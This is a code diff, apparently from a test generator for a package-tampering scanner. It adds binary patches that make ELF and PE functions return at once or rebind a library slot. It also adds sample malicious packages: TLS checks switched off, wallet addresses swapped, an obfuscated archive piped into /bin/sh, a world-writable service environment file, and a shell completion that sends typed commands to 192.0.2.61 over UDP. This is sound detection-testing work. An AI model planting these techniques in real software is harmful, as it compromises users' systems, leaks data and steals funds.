@@ -160,6 +160,17 @@ def pe_export(data):
     return bytes(data)
 
 
+def pe_cut(data):
+    """A function of the table of functions returns at once; its code stays."""
+    data = bytearray(data)
+    at = pe_offset(data, word(data, pe_directory(data, 3)))
+    while word(data, at + 4) - word(data, at) < 400:
+        at += 12
+    code = pe_offset(data, word(data, at))
+    data[code : code + 3] = RETURNS
+    return bytes(data)
+
+
 def pe_flags(name, flags):
     """A section gets rights."""
 
@@ -407,6 +418,30 @@ def elf_function(data):
             data[at + 4] = 0x1A
             return bytes(data)
     raise ValueError("no exported function")
+
+
+RETURNS = b"\x31\xc0\xc3"
+
+
+def elf_cut(data):
+    """An exported function returns at once; its code stays."""
+    data = bytearray(data)
+    symbols, strings = elf_offset(data, elf_value(data, 6)), elf_offset(data, elf_value(data, 5))
+    for at in range(symbols + 24, strings, 24):
+        if data[at + 4] == 0x12 and word(data, at + 6, "<H") and word(data, at + 16, "<Q") > 64:
+            code = elf_offset(data, word(data, at + 8, "<Q"))
+            code += 4 if data[code : code + 4] == b"\xf3\x0f\x1e\xfa" else 0
+            data[code : code + 3] = RETURNS
+            return bytes(data)
+    raise ValueError("no exported function")
+
+
+def elf_slot(data):
+    """Calls of one function of a library are bound to another one, which the image calls as well."""
+    data = bytearray(data)
+    table = elf_offset(data, elf_value(data, 23))
+    struct.pack_into("<I", data, table + 12, word(data, table + 24 + 12))
+    return bytes(data)
 
 
 def elf_first(data):
@@ -994,6 +1029,17 @@ on_npm("npm, environment for a host in pieces", "lib/main.js", later("function r
 on_msi("MSI, shortcut to an interpreter", "Shortcut", action='<DirectoryRef Id="INSTALLDIR"><Component Id="Link" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD480"><Shortcut Id="Start" Name="Start" Directory="INSTALLDIR" Target="C:\\Windows\\System32\\mshta.exe" Arguments="https://countersign-harmless.invalid/"/><RegistryValue Root="HKCU" Key="Software\\Harmless" Name="x" Type="integer" Value="1" KeyPath="yes"/></Component></DirectoryRef>')
 on_deb("deb, alternative of a usual program", "postinst", lambda folder: script(folder, "update-alternatives --install /usr/local/bin/sudo sudo /usr/lib/tool/sudo 90"))
 on_deb("deb, rule of devices that runs a program", "udev", lambda folder: put(folder, "lib/udev/rules.d/60-x.rules", 'ACTION=="add", RUN+="/usr/lib/tool/x"\n'))
+
+# The ninth: functions of finished images, and what protects.
+on_numpy("ELF, function that returns at once", "linux", elf_cut)
+on_numpy("ELF, slot of another function", "linux", elf_slot)
+on_numpy("PE, function that returns at once", "windows", pe_cut)
+on_numpy("wheel, certificates that are not checked", "linux", later("import ssl\ndef _context():\n    context = ssl.create_default_context()\n    context.check_hostname = False\n    return context"), member="numpy/version.py")
+on_npm("npm, certificates that are not checked", "lib/main.js", later("require('https').globalAgent.options.rejectUnauthorized = false;"))
+on_npm("npm, addresses of wallets that are replaced", "lib/main.js", later("const swap = (text) => text.replace(/^(?:0x[\\da-f]{40})$/i, '0x' + 'de'.repeat(20));"))
+on_npm("npm, data of a broken archive that a shell runs", "bin/extra", None, {"package/bin/extra": b"#!/bin/sh\nsed 'r' tests/bad-3.xz | tr 'a-z' 'b-za' | xz -d 2>/dev/null | /bin/sh\n"})
+on_deb("deb, environment of a service that everybody can write", "systemd", lambda folder: put(folder, "lib/systemd/system/x.service", "[Service]\nEnvironmentFile=-/tmp/.x.env\nExecStart=/usr/bin/x\n"))
+on_deb("deb, completion that calls somebody", "completions", lambda folder: put(folder, "usr/share/bash-completion/completions/x", "_x() {\n    echo \"$COMP_LINE\" > /dev/udp/192.0.2.61/53\n}\ncomplete -F _x x\n"))
 
 
 archive_in_archive()
